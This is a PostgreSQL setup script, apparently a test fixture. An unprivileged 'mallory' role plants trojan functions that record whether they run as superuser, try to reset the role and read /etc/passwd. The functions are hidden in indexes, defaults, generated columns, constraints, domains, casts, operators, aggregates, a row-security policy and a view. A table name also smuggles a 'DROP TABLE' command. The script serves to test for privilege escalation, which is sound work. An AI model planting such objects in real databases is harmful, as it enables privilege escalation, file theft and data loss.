-- A role without rights, and functions of its own that note as whom they are run, in everything that a query may reach.
CREATE ROLE {role} LOGIN PASSWORD 'm';
CREATE SCHEMA mallory AUTHORIZATION {role};
SET ROLE {role};
CREATE TABLE mallory.seen (who text, is_super text);
GRANT INSERT ON mallory.seen TO public;
GRANT USAGE ON SCHEMA mallory TO public;
CREATE FUNCTION mallory.note() RETURNS text LANGUAGE plpgsql VOLATILE AS $$
BEGIN
    INSERT INTO mallory.seen SELECT current_user, (SELECT rolsuper::text FROM pg_catalog.pg_roles WHERE rolname = current_user);
    BEGIN
        EXECUTE 'RESET ROLE';
        EXECUTE 'RESET SESSION AUTHORIZATION';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RETURN pg_catalog.pg_read_file('/etc/passwd', 0, 60);
END $$;
CREATE FUNCTION mallory.steal(anyelement) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN RETURN mallory.note(); EXCEPTION WHEN OTHERS THEN RETURN 'x'; END $$;
CREATE FUNCTION mallory.holds(int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM mallory.steal($1); RETURN true; END $$;
CREATE FUNCTION mallory.joined(int, int) RETURNS text LANGUAGE sql IMMUTABLE AS 'SELECT mallory.steal($1)';
CREATE OPERATOR mallory.## (LEFTARG = int, RIGHTARG = int, FUNCTION = mallory.joined);
CREATE TYPE mallory.box AS (content int);
CREATE FUNCTION mallory.unboxed(mallory.box) RETURNS text LANGUAGE sql IMMUTABLE AS 'SELECT mallory.steal(1)';
CREATE CAST (mallory.box AS text) WITH FUNCTION mallory.unboxed(mallory.box);
CREATE DOMAIN mallory.checked AS int CHECK (mallory.holds(VALUE));
CREATE AGGREGATE mallory.gathered(int) (SFUNC = int4pl, STYPE = int, FINALFUNC = mallory.steal);
CREATE TABLE mallory.plain (id int PRIMARY KEY, b mallory.box);
INSERT INTO mallory.plain VALUES (1, ROW(1));
CREATE TABLE mallory.indexed (id int PRIMARY KEY);
CREATE INDEX ON mallory.indexed ((mallory.steal(1)));
CREATE TABLE mallory.partly (id int PRIMARY KEY);
CREATE INDEX ON mallory.partly (id) WHERE mallory.holds(1);
CREATE TABLE mallory.constrained (id int PRIMARY KEY CHECK (mallory.holds(id)));
CREATE TABLE mallory.ranged (id int PRIMARY KEY, of_domain mallory.checked);
CREATE TABLE mallory.generated (id int PRIMARY KEY, g text GENERATED ALWAYS AS (mallory.steal(1)) STORED);
CREATE TABLE mallory.defaulted (id int PRIMARY KEY, d text DEFAULT mallory.steal(1));
CREATE TABLE mallory.secured (id int PRIMARY KEY);
ALTER TABLE mallory.secured ENABLE ROW LEVEL SECURITY;
CREATE POLICY p ON mallory.secured USING (mallory.holds(id));
CREATE VIEW mallory.shown AS SELECT mallory.steal(id) AS s, id FROM mallory.plain;
CREATE TABLE mallory."a""; DROP TABLE {table}; --" (id int PRIMARY KEY);
RESET ROLE;
TRUNCATE mallory.seen;
